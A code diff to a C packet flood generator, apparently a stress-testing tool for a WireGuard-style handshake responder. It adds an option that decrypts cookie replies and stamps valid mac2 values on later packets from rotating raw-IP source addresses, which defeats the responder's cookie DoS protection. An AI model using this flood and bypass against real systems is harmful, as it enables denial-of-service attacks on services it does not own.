@@ -11,11 +11,15 @@
  * that come back to its UDP port.
  *
  *   flood_gen -d DST_IP -k PUBKEY_BASE64 [-p PORT] [-r RATE] [-t SECONDS]
- *             [-s SRC_IP] [-n SOURCES] [-P SRC_PORT]
+ *             [-s SRC_IP] [-n SOURCES] [-P SRC_PORT] [-C]
  *
  *   -r  initiations per second (0: unthrottled; default 20000)
  *   -s  first source address (default: the route's own, via a UDP socket)
  *   -n  number of consecutive source addresses from -s (default 1)
+ *   -C  answer cookies: decrypt each cookie reply and put a valid mac2 on
+ *       what that source sends from then on, as an attacker who owns its
+ *       addresses would (the responder's per-source rate limit and its
+ *       handshake worker's CPU budget are then what stand in the way)
  *
  * mac1 is precomputed over a pool of distinct initiations, so the sending
  * loop only writes headers and calls sendmmsg.  Prints one line:
@@ -54,6 +58,17 @@ static atomic_bool stop;
 static atomic_ullong cookies;
 static int rx_fd = -1;
 
+/* -C: the latest cookie of each source, written by the receiver, read by the sender. */
+struct source_cookie {
+	pthread_mutex_t lock;
+	bool valid;
+	uint8_t cookie[16];
+};
+static struct source_cookie *src_cookies;
+static uint8_t cookie_key[32]; /* HASH("cookie--" || responder's public key) */
+static uint32_t src_first;     /* host order */
+static unsigned src_count;
+
 static void usage(void)
 {
 	fprintf(stderr, "usage: flood_gen -d DST_IP -k PUBKEY_BASE64 [-p PORT] [-r RATE] "
@@ -78,6 +93,8 @@ static void build_pool(const uint8_t pub[32])
 	memcpy(in, label, 8);
 	memcpy(in + 8, pub, 32);
 	blake2s(key, in, NULL, sizeof(key), sizeof(in), 0);
+	memcpy(in, "cookie--", 8);
+	blake2s(cookie_key, in, NULL, sizeof(cookie_key), sizeof(in), 0);
 	for (uint32_t i = 0; i < POOL; i++) {
 		uint8_t *m = pool[i];
 		uint32_t v = htole32(1), idx = htole32(INDEX_TAG | i);
@@ -88,6 +105,36 @@ static void build_pool(const uint8_t pub[32])
 		blake2s(m + MAC1_OFFSET, m, key, 16, MAC1_OFFSET, sizeof(key));
 		memset(m + MAC1_OFFSET + 16, 0, 16); /* no mac2: no cookie */
 	}
+}
+
+/* -C: decrypt a cookie reply to pool slot 'slot' sent to one of our sources. */
+static void learn_cookie(struct msghdr *mh, const uint8_t *reply, uint32_t slot)
+{
+	struct in_pktinfo info;
+	struct cmsghdr *c;
+	uint8_t cookie[16];
+	uint32_t s;
+
+	if (slot >= POOL)
+		return;
+	for (c = CMSG_FIRSTHDR(mh); c; c = CMSG_NXTHDR(mh, c))
+		if (c->cmsg_level == IPPROTO_IP && c->cmsg_type == IP_PKTINFO)
+			break;
+	if (!c)
+		return;
+	memcpy(&info, CMSG_DATA(c), sizeof(info));
+	s = ntohl(info.ipi_addr.s_addr) - src_first;
+	if (s >= src_count)
+		return;
+	/* type, receiver index, 24-byte nonce, the cookie sealed with mac1 as ad. */
+	if (crypto_aead_xchacha20poly1305_ietf_decrypt(cookie, NULL, NULL, reply + 32, 32,
+						       pool[slot] + MAC1_OFFSET, 16, reply + 8,
+						       cookie_key) != 0)
+		return;
+	pthread_mutex_lock(&src_cookies[s].lock);
+	memcpy(src_cookies[s].cookie, cookie, sizeof(cookie));
+	src_cookies[s].valid = true;
+	pthread_mutex_unlock(&src_cookies[s].lock);
 }
 
 /* Count the cookie replies to our sender indices until told to stop. */
@@ -103,12 +150,25 @@ static void *receiver(void *arg)
 
 		if (poll(&p, 1, 100) <= 0)
 			continue;
-		while ((n = recv(rx_fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0) {
+		for (;;) {
+			uint8_t control[64];
+			struct iovec v = {.iov_base = buf, .iov_len = sizeof(buf)};
+			struct msghdr mh = {.msg_iov = &v,
+					    .msg_iovlen = 1,
+					    .msg_control = control,
+					    .msg_controllen = sizeof(control)};
+
+			n = recvmsg(rx_fd, &mh, MSG_DONTWAIT);
+			if (n <= 0)
+				break;
 			if (n != 64 || buf[0] != 3 || buf[1] || buf[2] || buf[3])
 				continue;
 			memcpy(&idx, buf + 4, 4);
-			if ((le32toh(idx) & 0xff000000u) == INDEX_TAG)
-				atomic_fetch_add(&cookies, 1);
+			if ((le32toh(idx) & 0xff000000u) != INDEX_TAG)
+				continue;
+			atomic_fetch_add(&cookies, 1);
+			if (src_cookies)
+				learn_cookie(&mh, buf, le32toh(idx) & 0xffffffu);
 		}
 	}
 	return NULL;
@@ -128,8 +188,9 @@ int main(int argc, char **argv)
 	uint64_t start, end, sent = 0, slot = 0;
 	pthread_t rx;
 	int fd, c, one = 1;
+	bool answer = false;
 
-	while ((c = getopt(argc, argv, "d:k:p:r:t:s:n:P:")) != -1) {
+	while ((c = getopt(argc, argv, "d:k:p:r:t:s:n:P:C")) != -1) {
 		switch (c) {
 		case 'd':
 			dst_s = optarg;
@@ -175,6 +236,7 @@ int main(int argc, char **argv)
 	rx_fd = socket(AF_INET, SOCK_DGRAM, 0);
 	src.sin_port = htons((uint16_t)sport);
 	setsockopt(rx_fd, SOL_SOCKET, SO_RCVBUF, &(int){4 << 20}, sizeof(int));
+	setsockopt(rx_fd, IPPROTO_IP, IP_PKTINFO, &one, sizeof(one));
 	if (rx_fd < 0 || bind(rx_fd, (struct sockaddr *)&src, sizeof(src)) < 0) {
 		perror("flood_gen: bind");
 		return 1;
@@ -204,6 +266,15 @@ int main(int argc, char **argv)
 	}
 	setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &(int){4 << 20}, sizeof(int));
 	build_pool(pub);
+	src_first = ntohl(src.sin_addr.s_addr);
+	src_count = nsrc;
+	if (answer) {
+		src_cookies = calloc(nsrc, sizeof(*src_cookies));
+		if (!src_cookies)
+			return 1;
+		for (unsigned i = 0; i < nsrc; i++)
+			pthread_mutex_init(&src_cookies[i].lock, NULL);
+	}
 
 	for (int i = 0; i < BATCH; i++) {
 		struct iphdr *ip = (struct iphdr *)pkts[i];
@@ -252,9 +323,20 @@ int main(int argc, char **argv)
 		for (int i = 0; i < BATCH; i++, slot++) {
 			struct iphdr *ip = (struct iphdr *)pkts[i];
 
-			ip->saddr = htonl(ntohl(src.sin_addr.s_addr) + (uint32_t)(slot % nsrc));
-			memcpy(pkts[i] + sizeof(struct iphdr) + sizeof(struct udphdr),
-			       pool[slot % POOL], INIT_LEN);
+			uint8_t *m = pkts[i] + sizeof(struct iphdr) + sizeof(struct udphdr);
+			unsigned from = (unsigned)(slot % nsrc);
+
+			ip->saddr = htonl(src_first + from);
+			memcpy(m, pool[slot % POOL], INIT_LEN);
+			if (src_cookies) {
+				struct source_cookie *sc = &src_cookies[from];
+
+				pthread_mutex_lock(&sc->lock);
+				if (sc->valid)
+					blake2s(m + MAC1_OFFSET + 16, m, sc->cookie, 16,
+						MAC1_OFFSET + 16, 16);
+				pthread_mutex_unlock(&sc->lock);
+			}
 		}
 		n = sendmmsg(fd, msgs, BATCH, 0);
 		if (n < 0) {
